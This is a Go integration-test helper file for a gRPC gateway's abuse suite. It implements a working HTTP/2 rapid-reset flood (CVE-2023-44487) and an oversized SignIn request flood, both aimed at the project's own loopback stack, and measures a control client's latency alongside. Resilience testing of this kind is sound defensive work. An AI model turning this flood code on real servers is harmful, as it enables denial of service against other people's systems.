package integration

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	parleyv1 "parley/gateway/gen/parley/v1"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"
)

// The attacks of the abuse suite (abuse_test.go) and the control client
// whose latency they must not ruin.

// attackerAddr is where attacks come from: another loopback address than
// the control client's (127.0.0.1), as an attacker's is.
var attackerAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}

// rapidResetResult is what a rapid-reset attack achieved.
type rapidResetResult struct {
	opened  int64 // streams opened (and reset at once)
	goaways int64 // GOAWAY frames the target sent
	closed  int64 // connections the target closed
}

// rapidReset opens streams of method on addr over conns HTTP/2 connections
// for d, about rate a second in all, resetting each at once
// (CVE-2023-44487), and redials a connection the target closes.
func rapidReset(addr, method string, conns int, d time.Duration, rate int) rapidResetResult {
	var res rapidResetResult
	var headers bytes.Buffer
	enc := hpack.NewEncoder(&headers)
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", addr},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := headers.Bytes()
	deadline := time.Now().Add(d)
	var wg sync.WaitGroup
	for i := 0; i < conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(deadline) {
				attackOneConn(addr, block, deadline, float64(rate)/float64(conns), &res)
			}
		}()
	}
	wg.Wait()
	return res
}

func attackOneConn(addr string, block []byte, deadline time.Time, rate float64, res *rapidResetResult) {
	d := net.Dialer{Timeout: time.Second, LocalAddr: attackerAddr}
	c, err := d.Dial("tcp", addr)
	if err != nil {
		time.Sleep(10 * time.Millisecond) // the target refuses: try again shortly
		return
	}
	defer c.Close()
	_ = c.SetDeadline(deadline.Add(time.Second))
	w := bufio.NewWriterSize(c, 64<<10)
	if _, err := w.WriteString(http2.ClientPreface); err != nil {
		return
	}
	fr := http2.NewFramer(w, c)
	if fr.WriteSettings() != nil {
		return
	}
	done := make(chan struct{})
	go func() { // reads (and drops) what the target sends, noting GOAWAYs
		defer close(done)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				atomic.AddInt64(&res.closed, 1)
				return
			}
			if _, ok := f.(*http2.GoAwayFrame); ok {
				atomic.AddInt64(&res.goaways, 1)
			}
		}
	}()
	start, sent := time.Now(), 0
	for id := uint32(1); time.Now().Before(deadline) && id < 1<<30; id += 2 {
		if sent++; sent%64 == 0 {
			// Keep to the rate: wait until these were due.
			if due := start.Add(time.Duration(float64(sent) / rate * float64(time.Second))); time.Until(due) > 0 {
				_ = w.Flush()
				time.Sleep(time.Until(due))
			}
		}
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			break
		}
		atomic.AddInt64(&res.opened, 1)
		if id%64 == 1 && w.Flush() != nil {
			break
		}
		select {
		case <-done:
			return
		default:
		}
	}
	_ = w.Flush()
}

// controlClient calls grpc.health.v1.Health/Check on addr every interval
// until stopped, recording each call's latency; a failed call counts as
// failed.
type controlClient struct {
	mu        sync.Mutex
	latencies []time.Duration
	failed    int
	stop      chan struct{}
	done      chan struct{}
}

func startControl(t *testing.T, addr string, interval time.Duration) *controlClient {
	t.Helper()
	conn, err := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		t.Fatal(err)
	}
	c := &controlClient{stop: make(chan struct{}), done: make(chan struct{})}
	health := healthpb.NewHealthClient(conn)
	go func() {
		defer close(c.done)
		defer conn.Close()
		tick := time.NewTicker(interval)
		defer tick.Stop()
		for {
			select {
			case <-c.stop:
				return
			case <-tick.C:
			}
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			start := time.Now()
			_, err := health.Check(ctx, &healthpb.HealthCheckRequest{})
			elapsed := time.Since(start)
			cancel()
			c.mu.Lock()
			if err != nil {
				c.failed++
			} else {
				c.latencies = append(c.latencies, elapsed)
			}
			c.mu.Unlock()
		}
	}()
	return c
}

// take returns the figures so far and starts afresh.
func (c *controlClient) take() (p50, p99 time.Duration, n, failed int) {
	c.mu.Lock()
	l := c.latencies
	failed = c.failed
	c.latencies, c.failed = nil, 0
	c.mu.Unlock()
	if len(l) == 0 {
		return 0, 0, 0, failed
	}
	sort.Slice(l, func(i, j int) bool { return l[i] < l[j] })
	return l[len(l)/2], l[(len(l)*99)/100], len(l), failed
}

func (c *controlClient) close() {
	close(c.stop)
	<-c.done
}

// rssOf is the resident set size of process pid, in bytes.
func rssOf(t *testing.T, pid int) int64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		if rest, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
			if err != nil {
				t.Fatal(err)
			}
			return kb * 1024
		}
	}
	t.Fatalf("no VmRSS for pid %d", pid)
	return 0
}

// front is HAProxy in front of a stack, configured as `make run` starts it
// (scripts/haproxy-front.sh).
type front struct {
	restAddr, grpcAddr string
	proc               *proc
}

func startFront(t *testing.T, s *stack, env ...string) *front {
	t.Helper()
	haproxyBin, err := exec.LookPath("haproxy")
	if err != nil {
		t.Fatal("haproxy is not installed (scripts/deps.sh test)")
	}
	f := &front{restAddr: freeAddr(t), grpcAddr: freeAddr(t)}
	script, _ := filepath.Abs("../../scripts/haproxy-front.sh")
	gen := exec.Command(script, f.restAddr, f.grpcAddr, strings.TrimPrefix(s.httpURL, "http://"), s.grpcAddr)
	gen.Env = append(append(os.Environ(), "HAPROXY_USER="), env...)
	cfg, err := gen.Output()
	if err != nil {
		t.Fatalf("%s: %v", script, err)
	}
	cfgPath := filepath.Join(s.dir, "haproxy-front.cfg")
	if err := os.WriteFile(cfgPath, cfg, 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(haproxyBin, "-c", "-q", "-f", cfgPath).CombinedOutput(); err != nil {
		t.Fatalf("haproxy refuses %s: %v: %s", cfgPath, err, out)
	}
	f.proc = startProc(t, s.dir, "haproxy-front", haproxyBin, "-db", "-f", cfgPath)
	f.proc.termIsClean = true
	waitListening(t, f.proc, f.restAddr)
	waitListening(t, f.proc, f.grpcAddr)
	return f
}

// hugeRequests sends n SignIn requests of size bytes each at once, from
// the attacker's address, without a token, and returns their statuses.
func hugeRequests(t *testing.T, addr string, n, size int) []error {
	t.Helper()
	dialer := func(ctx context.Context, target string) (net.Conn, error) {
		d := net.Dialer{LocalAddr: attackerAddr}
		return d.DialContext(ctx, "tcp", target)
	}
	errs := make([]error, n)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		conn, err := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()),
			grpc.WithContextDialer(dialer), grpc.WithDefaultCallOptions(grpc.MaxCallSendMsgSize(size+1024)))
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			_, errs[i] = parleyv1.NewAuthServiceClient(conn).SignIn(ctx,
				&parleyv1.SignInRequest{Username: "mallory", Password: strings.Repeat("x", size)})
		}(i)
	}
	wg.Wait()
	return errs
}
